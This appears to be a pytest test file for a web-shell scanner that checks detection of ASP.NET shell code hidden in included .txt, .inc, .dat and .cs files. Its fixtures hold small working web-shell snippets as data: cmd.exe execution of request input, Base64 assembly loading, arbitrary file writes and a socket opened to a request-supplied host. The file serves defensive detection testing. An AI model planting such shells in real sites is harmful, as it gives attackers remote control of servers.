"""Code a page takes from files of any name: ``<!-- #include file|virtual -->`` (parsed as part of the
page) and ``<script runat="server" src>`` (that file's text is the script). A shell split so that the
page holds only the include or the script tag, and the code sits in ``.txt``/``.inc``, is found in
the included file; ordinary includes (headers, menus) and script sources stay silent.

The files were written for these tests, name only ``example`` hosts, are never compiled or run and
are not copies of real shells. One tree holds them all and is scanned once through ``extriage scan``.
"""

from __future__ import annotations

from typing import Any

import pytest

from .rule_tables import findings_for, scan_tree

ROOT = "C/inetpub/wwwroot/"

#: (page, its text, included file, its text, expected sink, language)
SHELLS: list[tuple[str, str, str, str, str, str]] = [
    (
        "site/status.aspx",
        '<%@ Page Language="C#" %>\n<html><body>\n<!-- #include file="inc/footer.txt" -->\n</body></html>\n',
        "site/inc/footer.txt",
        '<p>status</p>\n<% string c = Request["c"];\n'
        '   System.Diagnostics.Process.Start("cmd.exe", "/c " + c); %>\n',
        "process",
        "C#",
    ),
    (
        "site/news.aspx",
        '<%@ Page Language="C#" %>\n<!-- #include virtual="/site/parts/menu.inc" -->\n<p>news</p>\n',
        "site/parts/menu.inc",
        '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '    byte[] b = Convert.FromBase64String(Request.Form["d"]);\n'
        "    System.Reflection.Assembly.Load(b).CreateInstance(\"Example.Probe\");\n}\n</script>\n",
        "assembly-load",
        "C#",
    ),
    (
        "site/help.aspx",
        '<%@ Page Language="C#" %>\n<script runat="server" src="lib/helpers.txt"></script>\n<p>help</p>\n',
        "site/lib/helpers.txt",
        "void Page_Load(object s, EventArgs e) {\n"
        '    string p = Request.QueryString["p"];\n'
        '    System.IO.File.WriteAllText(Server.MapPath(p), Request.Form["t"]);\n}\n',
        "file-write",
        "C#",
    ),
    (
        "site/about.aspx",
        '<%@ Page Language="VB" %>\n<script runat=server src="lib/about.dat"></script>\n<p>about</p>\n',
        "site/lib/about.dat",
        "Sub Page_Load(sender As Object, e As EventArgs)\n"
        '    Dim c As String = Request.Form("c")\n'
        '    Dim p As Object = Diagnostics.Process.Start("cmd.exe", "/c " & c)\n'
        "End Sub\n",
        "process",
        "VB",
    ),
    (
        # an included file named like C# source is still text of the page: its <% %> block is the code
        "site/list.aspx",
        '<%@ Page Language="C#" %>\n<!-- #include file="inc/list.cs" -->\n',
        "site/inc/list.cs",
        "<ul><li>one</li></ul>\n<% var t = new System.Net.Sockets.TcpClient(Request.Headers[\"X-Host\"], 443); %>\n",
        "socket",
        "C#",
    ),
]

#: Ordinary pages and what they take in: markup includes and harmless script sources.
BENIGN: list[tuple[str, str]] = [
    ("site/home.aspx", '<%@ Page Language="C#" %>\n<!-- #include file="inc/header.inc" -->\n<p>home</p>\n'),
    ("site/inc/header.inc", '<div class="header"><% Response.Write(DateTime.Now.ToString("D")); %></div>\n'),
    ("site/calc.aspx", '<%@ Page Language="C#" %>\n<script runat="server" src="lib/calc.txt"></script>\n'),
    (
        "site/lib/calc.txt",
        "int Add(int a, int b) { return a + b; }\n"
        'void Page_Load(object s, EventArgs e) { Response.Write(Add(2, 3).ToString()); }\n',
    ),
    # a text file nobody includes: only YARA reads it, whatever it holds
    ("site/notes.txt", 'Process.Start("cmd.exe", "/c " + Request["c"]) is what the old page did.\n'),
]

@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    files = [(p, t) for p, t, _, _, _, _ in SHELLS] + [(i, t) for _, _, i, t, _, _ in SHELLS] + BENIGN
    return scan_tree(tmp_path_factory.mktemp("included"), ROOT, files)


@pytest.mark.parametrize(("page", "ptext", "inc", "itext", "sink", "lang"), SHELLS, ids=[s[2] for s in SHELLS])
def test_code_in_an_included_file_is_found(
    scanned: dict[str, Any], page: str, ptext: str, inc: str, itext: str, sink: str, lang: str
) -> None:
    found = [f for f in findings_for(scanned, inc) if f"behaviour:{sink}" in f["tags"]]
    assert found, [(f["rule_id"], f["tags"]) for f in scanned["findings"]]
    f = found[0]
    assert f["outcome"] == "webshell"
    sinks = [e for e in f["evidence"] if e["fields"].get("role") == "sink"]
    assert sinks and sinks[0]["fields"]["language"] == lang
    why = str(sinks[0]["fields"]["compiled"])
    assert page.rsplit("/", 1)[-1] in why.replace("\\", "/")
    assert ("#include" in why) == ("include" in ptext)


@pytest.mark.parametrize(("rel", "text"), BENIGN, ids=[b[0] for b in BENIGN])
def test_ordinary_includes_and_script_sources_are_not_flagged(
    scanned: dict[str, Any], rel: str, text: str
) -> None:
    assert [f["rule_id"] for f in findings_for(scanned, rel)] == []
